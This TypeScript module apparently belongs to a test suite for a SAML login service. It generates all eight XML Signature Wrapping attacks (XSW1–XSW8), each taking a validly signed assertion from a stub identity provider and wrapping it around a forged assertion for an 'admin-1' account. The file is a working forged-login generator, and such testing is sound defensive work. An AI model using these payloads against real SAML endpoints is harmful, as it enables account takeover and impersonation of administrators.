import { write, xml, type Xml } from './canonical-xml'
import type { Asked, PlainIdp } from './plain-idp'

/** What the attacker would like to be. */
export const EVIL = {
  nameId: 'admin-1',
  attributes: { mail: 'admin@acme.example' },
  assertionId: '_evil_assertion',
}

/**
 * Signature wrapping: the true, signed element is kept somewhere, and another one is put where it is read. The eight forms of Somorovsky et al.,
 * "On Breaking SAML" (USENIX Security 2012), as SAML Raider numbers them.
 */
export const WRAPPINGS: Record<string, (idp: PlainIdp, asked: Asked) => string> = {
  'XSW1: the signed response inside the signature of another': (idp, asked) =>
    write(evilResponse(idp, asked, (signature, original) => [inside(signature, original)])),
  'XSW2: the signed response before a detached signature': (idp, asked) =>
    write(evilResponse(idp, asked, (signature, original) => [original, signature])),
  'XSW3: another assertion before the signed one': (idp, asked) =>
    write(idp.response(asked, {}, evil(idp, asked), idp.sign(idp.assertion(asked)))),
  'XSW4: the signed assertion inside another': (idp, asked) =>
    write(idp.response(asked, {}, holding(evil(idp, asked), idp.sign(idp.assertion(asked))))),
  'XSW5: the signature in another assertion, the signed one at the end': (idp, asked) => {
    const { signature, original } = torn(idp.sign(idp.assertion(asked)))
    return write(idp.response(asked, {}, afterIssuer(evil(idp, asked), signature), original))
  },
  'XSW6: the signed assertion inside the signature of another': (idp, asked) => {
    const { signature, original } = torn(idp.sign(idp.assertion(asked)))
    return write(idp.response(asked, {}, afterIssuer(evil(idp, asked), inside(signature, original))))
  },
  'XSW7: another assertion among extensions': (idp, asked) =>
    write(
      idp.response(asked, {}, xml('samlp:Extensions', {}, evil(idp, asked)), idp.sign(idp.assertion(asked))),
    ),
  'XSW8: the signed assertion in an object of the signature of another': (idp, asked) => {
    const { signature, original } = torn(idp.sign(idp.assertion(asked)))
    const object = xml('ds:Object', {}, original)
    return write(idp.response(asked, {}, afterIssuer(evil(idp, asked), inside(signature, object))))
  },
}

function evil(idp: PlainIdp, asked: Asked): Xml {
  return idp.assertion(asked, EVIL)
}

function evilResponse(idp: PlainIdp, asked: Asked, put: (signature: Xml, original: Xml) => Xml[]): Xml {
  const { signature, original } = torn(idp.sign(idp.response(asked, {}, idp.assertion(asked))))
  const response = idp.response(asked, { responseId: '_evil_response' }, evil(idp, asked))
  const [issuer = null, ...rest] = response.children
  return { ...response, children: [issuer, ...put(signature, original), ...rest] }
}

/** A signed element as two: its signature, and itself without it. */
function torn(signedElement: Xml): { signature: Xml; original: Xml } {
  const isSignature = (child: Xml | string | null): child is Xml =>
    child !== null && typeof child !== 'string' && child.name === 'ds:Signature'
  const signature = signedElement.children.find(isSignature)
  if (!signature) throw new Error('It is not signed.')
  const children = signedElement.children.filter((child) => child !== signature)
  return { signature, original: { ...signedElement, children } }
}

function inside(outer: Xml, inner: Xml): Xml {
  return { ...outer, children: [...outer.children, inner] }
}

const holding = inside

function afterIssuer(element: Xml, inserted: Xml): Xml {
  const [issuer = null, ...rest] = element.children
  return { ...element, children: [issuer, inserted, ...rest] }
}
